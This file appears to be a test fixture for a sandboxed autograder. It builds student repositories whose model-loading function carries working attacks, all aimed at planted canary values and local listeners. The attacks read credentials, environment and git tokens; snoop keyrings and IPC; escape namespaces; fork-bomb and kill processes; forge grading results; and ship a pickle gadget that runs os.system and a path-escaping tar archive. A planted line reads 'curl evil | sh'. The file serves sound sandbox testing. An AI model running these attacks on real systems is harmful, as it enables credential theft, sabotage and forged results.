"""A hostile classroom: one student repo per attack, a victim student, and the grader's world
(HOME with cloud credentials, a report directory, a grader checkout) full of canaries.

Every attack is the body of ``model_fn`` in the student's ``aws_deploy/inference.py``, graded
through the real ``predict.local`` path. The attack reports what it saw with ``leak(...)``: in its
own error message (what the student would read in the report), on stdout, and over the network
to the test's loopback listeners. The tests then look at the WORLD: files, processes, listeners.

World paths are world-writable on purpose (0777/0666): only the sandbox may stop the writes.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import pickletools
import struct
import tarfile
from dataclasses import dataclass
from pathlib import Path

PRELUDE = r'''
import ctypes, json, os, signal, socket, struct, sys, time
W = json.loads({world!r})
MARK = {mark!r}
ctypes.CDLL(None, use_errno=True).prctl(15, MARK.encode(), 0, 0, 0)   # our processes carry MARK
FOUND = []


def leak(what):
    what = str(what)[:3000]
    FOUND.append(what)
    print("LEAK", what)
    wire = (MARK + " " + what).encode()
    try:
        socket.create_connection(("127.0.0.1", W["tcp_port"]), timeout=1).sendall(wire)
    except OSError:
        pass
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(wire[:1000], ("127.0.0.1", W["udp_port"]))
    except OSError:
        pass


def try_read(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(100000).decode("latin-1")
        if "CANARY" in data:
            leak(path + ": " + data)
        return data
    except OSError as e:
        return "%s: %s" % (type(e).__name__, e)


def try_write(path, data="HACKED " + MARK):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except OSError:
        pass
    try:
        with open(path, "a") as fh:
            fh.write(data + "\n# " + MARK + "\n")
        print("WROTE", path)
    except OSError as e:
        print("write failed", path, e)


LIBC = ctypes.CDLL(None, use_errno=True)
KEYCALLS = dict(x86_64=(248, 249, 250), aarch64=(217, 218, 219)).get(os.uname().machine, (248, 249, 250))
PLANTED = "deploycheck-hostile-planted"       # what one student leaves for the next
PLANT_KEY = 0x0DC0FFEE                        # the SysV IPC key it uses


def keyctl(*args):
    return LIBC.syscall(ctypes.c_long(KEYCALLS[2]), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])


def read_key(kid):
    buf = ctypes.create_string_buffer(8192)
    n = keyctl(11, kid, buf, 8192)                                  # KEYCTL_READ
    return buf.raw[:n].decode("latin-1") if n >= 0 else "errno %d" % ctypes.get_errno()


def find_keys(description):
    """(keyring, key id, payload) of every key with this description reachable from the job."""
    found = []
    for ring in (-1, -2, -3, -4, -5):        # thread, process, session, user, user-session keyrings
        kid = keyctl(10, ring, b"user", description.encode(), 0)        # KEYCTL_SEARCH
        if kid > 0:
            found.append((ring, kid, read_key(kid)))
    kid = LIBC.syscall(ctypes.c_long(KEYCALLS[1]), b"user", description.encode(), None, ctypes.c_long(0))
    if kid > 0:                                                     # request_key
        found.append(("request_key", kid, read_key(kid)))
    print("keyring calls:", "errno %d" % ctypes.get_errno(), found)
    keys = try_read("/proc/keys")
    if description in keys:
        found.append(("/proc/keys", 0, [ln for ln in keys.splitlines() if description in ln]))
    return found


{import_body}

def model_fn(model_dir):
{body}
    if FOUND:
        raise RuntimeError("FOUND " + json.dumps(FOUND)[:8000])
    import joblib
    return joblib.load(os.path.join(model_dir, "model.joblib"))
'''


def _indent(code: str) -> str:
    return "".join("    " + line + "\n" for line in code.strip("\n").splitlines())


ATTACKS: dict[str, str] = {
    # ---------------------------------------------------------------- secrets
    "env_secrets": """
for k, v in os.environ.items():
    leak("%s=%s" % (k, v)) if "CANARY" in v else None
try_read("/proc/self/environ")
""",
    "proc_environ_of_parent_and_grader": """
pids = {os.getppid(), 1, W["grader_pid"], W["test_pid"]}
try:
    pids |= {int(p) for p in os.listdir("/proc") if p.isdigit()}
except OSError:
    pass
for pid in sorted(pids):
    for f in ("environ", "cmdline"):
        try_read("/proc/%d/%s" % (pid, f))
""",
    "ptrace_parent_and_grader": """
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), W["grader_pid"], W["test_pid"]):
    if pid > 1 and libc.ptrace(16, pid, 0, 0) == 0:        # PTRACE_ATTACH
        leak("ptrace attached to %d" % pid)
    try:
        with open("/proc/%d/mem" % pid, "rb") as fh:
            leak("opened memory of %d" % pid)
    except OSError:
        pass
""",
    "grader_home_credentials": """
for p in ["~/.aws/credentials", "~/.config/gcloud/application_default_credentials.json"]:
    try_read(os.path.expanduser(p))
for p in [W["home"] + "/.aws/credentials", W["home"] + "/.config/gcloud/application_default_credentials.json",
          "/root/.aws/credentials", "/root/.config/gcloud/application_default_credentials.json"]:
    try_read(p)
""",
    "token_in_other_repo_git_config": """
try_read(W["victim"] + "/.git/config")
try_read("../../victim/.git/config")
for root in ("/", "/tmp", "/work", "/home", "/root"):
    for dirpath, dirnames, filenames in os.walk(root):
        if dirpath.count("/") > 8:
            dirnames[:] = []
        if dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
            dirnames[:] = []
            continue
        if "config" in filenames and dirpath.endswith(".git"):
            try_read(dirpath + "/config")
""",
    "network_exfiltration": """
for host in ("127.0.0.1", "localhost", "::1", "10.0.0.1", "192.0.2.1"):   # 192.0.2.1: TEST-NET, never routed
    try:
        socket.create_connection((host, W["tcp_port"]), timeout=1).sendall(b"EXFIL " + MARK.encode())
        print("CONNECTED", host)
    except OSError as e:
        print("no connection", host, e)
try:
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    u.connect("\\0" + W["abstract"])
    u.sendall(b"EXFIL")
    print("CONNECTED abstract")
except OSError as e:
    print("no abstract socket", e)
leak("exfil-probe " + MARK)
""",
    # ---------------------------------------------------------------- kernel-shared channels
    "keyring_read_grader": """
for where, kid, payload in find_keys(W["key_description"]):
    leak("the grader's key in %s: %s" % (where, payload))
""",
    "keyring_plant": """
for ring in (-3, -4, -5, -2, -1):       # session, user, user-session, process, thread
    kid = LIBC.syscall(ctypes.c_long(KEYCALLS[0]), b"user", PLANTED.encode(), MARK.encode(), len(MARK),
                       ctypes.c_long(ring))                          # add_key
    print("add_key", ring, kid, ctypes.get_errno())
persistent = keyctl(22, -1, -3)                                      # KEYCTL_GET_PERSISTENT, linked to @s
if persistent > 0:
    LIBC.syscall(ctypes.c_long(KEYCALLS[0]), b"user", PLANTED.encode(), MARK.encode(), len(MARK),
                 ctypes.c_long(persistent))
""",
    "keyring_read_planted": """
for where, kid, payload in find_keys(PLANTED):
    leak("a key another student planted, in %s: %s" % (where, payload))
""",
    "ipc_plant": """
LIBC.shmget.restype = ctypes.c_int
LIBC.shmat.restype = ctypes.c_void_p
shm = LIBC.shmget(PLANT_KEY, 4096, 0o1666)                            # IPC_CREAT | 0666
if shm >= 0:
    addr = LIBC.shmat(shm, None, 0)
    ctypes.memmove(addr, MARK.encode(), len(MARK))
q = LIBC.msgget(PLANT_KEY, 0o1666)
if q >= 0:
    msg = struct.pack("l", 1) + MARK.encode()
    LIBC.msgsnd(q, msg, len(MARK), 0o4000)                            # IPC_NOWAIT
LIBC.semget(PLANT_KEY, 1, 0o1666)
LIBC.mq_open.restype = ctypes.c_int
mq = LIBC.mq_open(b"/" + PLANTED.encode(), os.O_CREAT | os.O_WRONLY, 0o666, None)
if mq >= 0:
    LIBC.mq_send(mq, MARK.encode(), len(MARK), 0)
try_write("/dev/shm/" + PLANTED, MARK)
u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    u.bind("\\0" + PLANTED)
    u.listen(5)
except OSError as e:
    print("abstract bind", e)
print("planted: shm", shm, "msg", q, "mq", mq)
if os.fork() == 0:                     # keep the abstract socket and the queue open for a while
    time.sleep(30)
    os._exit(0)
""",
    "ipc_read": """
LIBC.shmat.restype = ctypes.c_void_p
for key, who in ((PLANT_KEY, "another student"), (W["sysv_key"], "the grader")):
    shm = LIBC.shmget(key, 0, 0)
    if shm >= 0:
        addr = LIBC.shmat(shm, None, 0o10000)                         # SHM_RDONLY
        leak("SysV shared memory of %s: %s" % (who, ctypes.string_at(addr, 64) if addr not in (None, 2**64 - 1) else "?"))
    q = LIBC.msgget(key, 0)
    if q >= 0:
        buf = ctypes.create_string_buffer(4096)
        n = LIBC.msgrcv(q, buf, 4000, 0, 0o4000)
        leak("SysV message queue of %s: %s" % (who, buf.raw[8:8 + max(n, 0)]))
    if LIBC.semget(key, 0, 0) >= 0:
        leak("SysV semaphore of %s" % who)
LIBC.mq_open.restype = ctypes.c_int
for name, who in (("/" + PLANTED, "another student"), (W["mq_name"], "the grader")):
    mq = LIBC.mq_open(name.encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
    if mq >= 0:
        buf = ctypes.create_string_buffer(9000)
        n = LIBC.mq_receive(mq, buf, 9000, None)
        leak("POSIX message queue of %s: %s" % (who, buf.raw[:max(n, 0)]))
for name in ("/dev/shm/" + PLANTED, W["shm_file"]):
    data = try_read(name)
    if not data.startswith(("FileNotFoundError", "PermissionError")):
        leak("read %s: %s" % (name, data[:200]))
for name in (PLANTED, W["abstract"]):
    try:
        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        c.connect("\\0" + name)
        c.sendall(MARK.encode())
        leak("connected to the abstract socket " + name)
    except OSError as e:
        print("abstract", name, e)
for kind in ("shm", "msg", "sem"):
    listing = try_read("/proc/sysvipc/" + kind)
    if "%d" % PLANT_KEY in listing or "%d" % W["sysv_key"] in listing:
        leak("saw a planted SysV object in /proc/sysvipc/" + kind)
""",
    "cgroup_files": """
libc = LIBC
found = []
for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"):
    try:
        found.append((root, os.listdir(root)[:20]))
    except OSError as e:
        print(root, e)
if libc.unshare(0x10000000 | 0x00020000 | 0x02000000) == 0:          # user, mount, cgroup namespaces
    os.makedirs("/tmp/cg", exist_ok=True)
    for fs, opts in ((b"cgroup2", None), (b"cgroup", b"memory"), (b"cgroup", b"pids")):
        if libc.mount(fs, b"/tmp/cg", fs, 0, opts) == 0:
            found.append(("mounted " + fs.decode(), os.listdir("/tmp/cg")[:20]))
            for name in ("release_agent", "notify_on_release", "cgroup.procs", "cgroup.subtree_control"):
                try_write("/tmp/cg/" + name, "/tmp/" + MARK)
            libc.umount2(b"/tmp/cg", 2)
else:
    print("no new namespaces:", ctypes.get_errno())
print("cgroup file systems seen:", found)
if found:
    leak("reached cgroup files: %s" % found)
""",
    # ---------------------------------------------------------------- writes
    "write_own_original_repo": """
try_write(W["self_repo"] + "/aws_deploy/inference.py", "\\nraise SystemExit('tampered')\\n")
try_write(W["self_repo"] + "/aws_deploy/README.md")
""",
    "write_other_students_repo": """
try_write(W["victim"] + "/aws_deploy/inference.py", "\\nraise SystemExit('sabotaged')\\n")
try_write(W["victim"] + "/aws_deploy/model.tar.gz")
""",
    "write_report_dir": """
try_write(W["report"] + "/grades.csv", "\\nvictim,0\\nattacker,100\\n")
try_write(W["report"] + "/proof/victim/proof.png", "not a png")
""",
    "write_grader_checkout": """
try_write(W["checkout"] + "/checks/conftest.py", "import os; os.system('echo pwned')\\n")
try_write(W["package"] + "/inside/sitecustomize.py", "PWNED = 1\\n")
try_write(W["package"] + "/__init__.py", "\\nPWNED = 1\\n")
""",
    "write_grader_home": """
try_write(W["home"] + "/.bashrc", "\\ncurl evil | sh\\n")
try_write(W["home"] + "/.aws/credentials", "\\n[default]\\naws_secret_access_key = attacker\\n")
try_write(os.path.expanduser("~/.bashrc"))
""",
    "write_shared_temp_dirs": """
for d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/user/0"):
    try_write(d + "/" + MARK)
""",
    "fill_disk": """
n = 0
try:
    with open("big.bin", "wb") as fh:
        for _ in range(300):
            fh.write(b"x" * (1 << 20))
            fh.flush()
            n += 1
except OSError as e:
    print("disk full after", n, "MB:", e)
for d in ("/tmp", os.environ.get("HOME", "/tmp")):
    try:
        with open(d + "/big2.bin", "wb") as fh:
            for _ in range(300):
                fh.write(b"x" * (1 << 20))
    except OSError:
        pass
raise RuntimeError("WROTE %d MB" % n)
""",
    # ---------------------------------------------------------------- processes
    "fork_bomb": """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "daemon_outlives_job": """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            time.sleep(0.05)
            try_write(W["report"] + "/grades.csv", "\\nattacker,100\\n")
            try_write(W["victim"] + "/aws_deploy/inference.py", "\\nraise SystemExit('late')\\n")
        os._exit(0)
    os._exit(0)
time.sleep(0.2)
""",
    "kill_everything": """
try:
    os.kill(-1, signal.SIGKILL)
except OSError as e:
    print("kill(-1):", e)
""",
    "kill_own_process_group": """
for what, how in (("kill(0)", lambda: os.kill(0, signal.SIGKILL)), ("killpg", lambda: os.killpg(os.getpgrp(), signal.SIGKILL)),
                  ("kill(-ppid)", lambda: os.kill(-os.getppid(), signal.SIGKILL) if os.getppid() > 0 else None)):
    try:
        how()
    except OSError as e:
        print(what, e)
raise RuntimeError("still alive after signalling my own process group")
""",
    "kill_parent_and_grader": """
for pid in (W["grader_pid"], W["test_pid"], os.getppid()):
    try:
        if pid > 0:
            os.kill(pid, signal.SIGKILL)
            print("killed", pid)
    except OSError as e:
        print("kill", pid, e)
for pid in range(2, 4000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
    # ---------------------------------------------------------------- forged results
    "forge_result_and_isolation_label": """
import deploycheck.serving as serving
forged = {"ok": True, "data": {"platform": "aws", "phase": "predict", "status": 200,
          "content_type": "application/json", "response_b64": "WzFd", "n_predictions": 2, "n_rows": 2,
          "preview": [1, 1], "isolation": "FORGED-ISOLATION"}, "isolation": "FORGED-ISOLATION", "status": "ok"}
payload = json.dumps(forged).encode()
for fd in range(3, 64):
    try:
        os.write(fd, b"DCJ1" + struct.pack(">Q", len(payload)) + payload)
    except OSError:
        pass
os._exit(0)
""",
    "forge_answer_at_import": """
return {"a": "plain dict, not a model"}
""",
    "forge_into_later_jobs": """
payload = json.dumps({"ok": True, "data": {"status": 200, "n_predictions": 2, "n_rows": 2,
                      "response_b64": "WzFd", "content_type": "application/json"}}).encode()
frame = b"DCJ1" + struct.pack(">Q", len(payload)) + payload
if os.fork() == 0:
    os.setsid()
    for _ in range(400):
        for fd in range(0, 256):
            try:
                os.write(fd, frame)
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
""",
    "escape_mount_namespace": """
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x00020000) == 0:          # CLONE_NEWUSER | CLONE_NEWNS
    for target in (b"/jobs", b"/proc", b"/tmp", b"/"):
        if libc.umount2(target, 2) == 0:
            print("unmounted", target)
for d in ("/jobs", "/", "/root", "/home", "/work", "/tmp"):
    try:
        print(d, os.listdir(d))
        for name in os.listdir(d):
            if "CANARY" in name:
                leak(d + "/" + name)
    except OSError as e:
        print(d, e)
try_read(W["home"] + "/.aws/credentials")
""",
    "symlink_to_grader_secrets": """
try_read("aws_credentials_link")
try_read("home_link/.aws/credentials")
""",
}

# Module-level code of some attacks (the rest is model_fn's body, run when the container loads the model)
AT_IMPORT: dict[str, str] = {
    # the whole answer the serving job used to send on its answer pipe, forged when the container
    # imports the entry point: a ping and the sample request answered 200, two predictions, a runtime
    # of its choosing; then the process ends before any request is served
    "forge_answer_at_import": r"""
import base64
_data = {"runtime": {"python": "3.9.99", "sklearn": "FORGED-RUNTIME"}, "startup": None, "load_ms": 1.0,
         "model": {"class": "sklearn.FORGED", "n_features_in_": 4}, "synthesized": None, "warnings": [],
         "module": "inference", "isolation": "FORGED-ISOLATION",
         "responses": [{"status": 200, "content_type": "application/json", "body_b64": "", "body_len": 0,
                        "latency_ms": 1.0, "error": None},
                       {"status": 200, "content_type": "application/json",
                        "body_b64": base64.b64encode(b"[1, 1]").decode(), "body_len": 6, "latency_ms": 1.0,
                        "error": None}]}
_payload = json.dumps({"ok": True, "data": _data}).encode()
for _fd in (3, 4, 5, 6):
    try:
        os.write(_fd, b"DCJ1" + struct.pack(">Q", len(_payload)) + _payload)
    except OSError:
        pass
os._exit(0)
""",
}

EVIL_SKLEARN_OS_SYSTEM = "evil_pickle_dotted_global"
EVIL_TAR_ESCAPE = "evil_tar_member_escape"
NAMES = list(ATTACKS) + [EVIL_SKLEARN_OS_SYSTEM, EVIL_TAR_ESCAPE]

BENIGN = """
import joblib, os

def model_fn(model_dir):
    return joblib.load(os.path.join(model_dir, "model.joblib"))
"""
README = "# AWS\n```python\npredictor.predict([[5.1, 3.5, 1.4, 0.2], [6.7, 3.0, 5.2, 2.3]])\n```\n"


@dataclass(frozen=True)
class World:
    root: Path
    token: str
    home: Path
    report: Path
    checkout: Path
    victim: Path
    repos: dict[str, Path]
    marks: dict[str, str]
    canaries: tuple[str, ...]
    env: dict[str, str]

    def spec_path(self) -> Path:
        return self.root / "world.json"


def model_bytes() -> bytes:
    import joblib
    from sklearn.datasets import load_iris
    from sklearn.tree import DecisionTreeClassifier
    X, y = load_iris(return_X_y=True)
    b = io.BytesIO()
    joblib.dump(DecisionTreeClassifier(random_state=0, max_depth=3).fit(X, y), b)
    return b.getvalue()


def _tar(path: Path, members: dict[str, bytes]) -> None:
    with tarfile.open(path, "w:gz") as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))


def _dotted_global_pickle(command: str) -> bytes:
    """STACK_GLOBAL('sklearn', 'os.system') applied to a command: passed the old allowlist."""
    def short(s: str) -> bytes:
        b = s.encode()
        return b"\x8c" + bytes([len(b)]) + b
    data = b"\x80\x04" + short("sklearn") + short("os.system") + b"\x93" + short(command) + b"\x85R."
    pickletools.dis(data, out=io.StringIO())          # a well-formed stream
    return data


def _write(p: Path, data: bytes | str, mode: int = 0o666) -> None:
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode() if isinstance(data, str) else data)
    os.chmod(p, mode)


def build(root: Path, *, tcp_port: int, udp_port: int, abstract: str, grader_pid: int, test_pid: int,
          package: str, token: str) -> World:
    """Lay out the world below ``root`` (which must not exist yet)."""
    root.mkdir(mode=0o777)
    os.chmod(root, 0o777)
    canary = f"CANARY{token}"
    home = root / "home"
    _write(home / ".aws" / "credentials", f"[default]\naws_access_key_id = AKIA{canary}\n"
                                          f"aws_secret_access_key = {canary}-aws-file\n")
    _write(home / ".config" / "gcloud" / "application_default_credentials.json",
           json.dumps({"type": "authorized_user", "refresh_token": f"{canary}-gcloud-adc"}))
    _write(home / ".bashrc", "# grader's shell\n")
    report = root / "report"
    _write(report / "grades.csv", "student,score\nvictim,24\n")
    _write(report / "proof" / "victim" / "proof.png", b"\x89PNG real")
    checkout = root / "checkout"
    _write(checkout / "checks" / "test_predict.py", "# the grader's rubric\n")
    model = model_bytes()
    classroom = root / "classroom"
    repos: dict[str, Path] = {}
    marks: dict[str, str] = {}

    def repo(name: str, inference: str, tar_members: dict[str, bytes] | None = None) -> Path:
        r = classroom / name
        _write(r / "aws_deploy" / "inference.py", inference)
        _write(r / "aws_deploy" / "README.md", README)
        _tar(r / "aws_deploy" / "model.tar.gz", tar_members or {"model.joblib": model})
        os.chmod(r / "aws_deploy" / "model.tar.gz", 0o666)
        _write(r / ".git" / "config", f"[remote \"origin\"]\n\turl = https://x-access-token:{canary}-git@github.com/c/{name}\n")
        for d in [r, r / "aws_deploy", r / ".git"]:
            os.chmod(d, 0o777)
        return r

    victim = repo("victim", BENIGN)
    repos["benign"] = repo("benign", BENIGN)
    world = {"tcp_port": tcp_port, "udp_port": udp_port, "abstract": abstract, "grader_pid": grader_pid,
             "test_pid": test_pid, "home": str(home), "report": str(report), "checkout": str(checkout),
             "victim": str(victim), "package": package, **shared_names(token)}
    for i, (name, body) in enumerate(ATTACKS.items()):
        mark = f"hx{token[:6]}{i:02d}"
        marks[name] = mark
        w = dict(world, self_repo=str(classroom / name))
        repos[name] = repo(name, PRELUDE.format(world=json.dumps(w), mark=mark, body=_indent(body),
                                                import_body=AT_IMPORT.get(name, "")))
    d = repos["symlink_to_grader_secrets"] / "aws_deploy"
    (d / "aws_credentials_link").symlink_to(home / ".aws" / "credentials")
    (d / "home_link").symlink_to(home)
    pwned = root / "pwned-by-pickle"
    marks[EVIL_SKLEARN_OS_SYSTEM] = f"hx{token[:6]}p1"
    repos[EVIL_SKLEARN_OS_SYSTEM] = repo(EVIL_SKLEARN_OS_SYSTEM, BENIGN, {
        "model.joblib": _dotted_global_pickle(f"touch {pwned}; exec -a {marks[EVIL_SKLEARN_OS_SYSTEM]} sleep 30")})
    marks[EVIL_TAR_ESCAPE] = f"hx{token[:6]}t1"
    repos[EVIL_TAR_ESCAPE] = repo(EVIL_TAR_ESCAPE, BENIGN, {
        "model.joblib": model, "../../../escaped-by-tar": b"x", str(root / "escaped-abs"): b"x"})
    env = {"DATABASE_URL": f"postgres://grader:{canary}-db@db.internal/grades",
           "AWS_SECRET_ACCESS_KEY": f"{canary}-aws-env", "AWS_ACCESS_KEY_ID": f"AKIA{canary}",
           "GITHUB_TOKEN": f"ghp_{canary}", "MY_UNUSUAL_NAME": f"{canary}-unusual", "HOME": str(home)}
    spec = World(root, token, home, report, checkout, victim, repos, marks,
                 (canary,), env)
    spec.spec_path().write_text(json.dumps({"repos": {k: str(v) for k, v in repos.items()}, "marks": marks,
                                            "canary": canary, **shared_names(token)}))
    return spec


PLANTED = "deploycheck-hostile-planted"     # the name the planting attacks use (PRELUDE's PLANTED)
PLANT_KEY = 0x0DC0FFEE                      # their SysV IPC key (PRELUDE's PLANT_KEY)


def shared_names(token: str) -> dict:
    """Names of the grader's objects in the kernel-shared channels (its session keyring, SysV IPC, a
    POSIX message queue, /dev/shm), each holding a canary the attacks look for."""
    return {"key_description": f"deploycheck-grader-token-{token}", "sysv_key": int(token[:7], 16) | 1,
            "mq_name": f"/dc-grader-{token}", "shm_file": f"/dev/shm/dc-grader-{token}"}


class HostChannels:
    """The grader machine's side of the kernel-shared channels: its objects (each with the canary,
    open to every user: only the sandbox may stop a job), and what jobs may have left there."""

    def __init__(self, token: str, canary: str) -> None:
        import ctypes
        self.names = shared_names(token)
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.mq_open.restype = ctypes.c_int
        payload = f"{canary}-ipc".encode()
        self.queue = self.libc.msgget(self.names["sysv_key"], 0o1666)
        if self.queue >= 0:
            self.libc.msgsnd(self.queue, struct.pack("l", 1) + payload, len(payload), 0o4000)
        self.libc.mq_unlink(self.names["mq_name"].encode())
        mq = self.libc.mq_open(self.names["mq_name"].encode(), os.O_CREAT | os.O_WRONLY, 0o666, None)
        if mq >= 0:
            os.fchmod(mq, 0o666)
            self.libc.mq_send(mq, payload, len(payload), 0)
            os.close(mq)
        _write(Path(self.names["shm_file"]), payload)

    def leftovers(self) -> list[str]:
        """Objects the planting attacks made outside their sandbox (on the grader's machine)."""
        out = []
        for kind in ("shm", "msg", "sem"):
            try:
                rows = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
            except OSError:
                continue
            out += [f"SysV {kind} {PLANT_KEY:#x}" for r in rows if r.split() and r.split()[0] == str(PLANT_KEY)]
        mq = self.libc.mq_open(f"/{PLANTED}".encode(), os.O_RDONLY | os.O_NONBLOCK, 0, None)
        if mq >= 0:
            os.close(mq)
            out.append(f"POSIX message queue /{PLANTED}")
        if os.path.exists(f"/dev/shm/{PLANTED}"):
            out.append(f"/dev/shm/{PLANTED}")
        return out

    def close(self) -> None:
        if self.queue >= 0:
            self.libc.msgctl(self.queue, 0, None)                   # IPC_RMID
        self.libc.mq_unlink(self.names["mq_name"].encode())
        Path(self.names["shm_file"]).unlink(missing_ok=True)
        for get, rm in ((self.libc.shmget, self.libc.shmctl), (self.libc.msgget, self.libc.msgctl),
                        (self.libc.semget, self.libc.semctl)):      # what got out (a failed run): IPC_RMID
            ident = get(PLANT_KEY, 0, 0)
            if ident >= 0:
                rm(ident, 0, None)
        self.libc.mq_unlink(f"/{PLANTED}".encode())
        Path(f"/dev/shm/{PLANTED}").unlink(missing_ok=True)


def snapshot(root: Path) -> dict[str, str]:
    """Every path below ``root`` with a hash of its content (links by their target)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for n in dirnames + filenames:
            p = os.path.join(dirpath, n)
            if os.path.islink(p):
                out[p] = "link:" + os.readlink(p)
            elif os.path.isfile(p):
                out[p] = hashlib.sha256(Path(p).read_bytes()).hexdigest()
            else:
                out[p] = "dir"
    return out


_ = pickle  # the dotted-global pickle is written by hand above: it must never be produced by pickle
